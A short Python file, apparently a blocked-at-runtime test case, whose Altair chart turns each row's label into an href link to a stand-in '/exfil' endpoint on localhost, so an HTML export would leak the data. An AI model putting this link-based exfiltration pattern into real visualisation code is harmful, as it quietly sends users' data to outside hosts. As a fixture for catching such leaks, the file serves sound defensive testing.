"""An href channel reading a field of links (the HTML export would follow them)."""  # runtime: blocked
# ruff: noqa
import altair as alt
import pandas as pd


def plot(data: pd.DataFrame) -> alt.Chart:
    frame = data.assign(link="http://127.0.0.1:9/exfil?label=" + data["label"])
    return alt.Chart(frame).mark_point().encode(x="x:Q", y="y:Q", href="link:N")
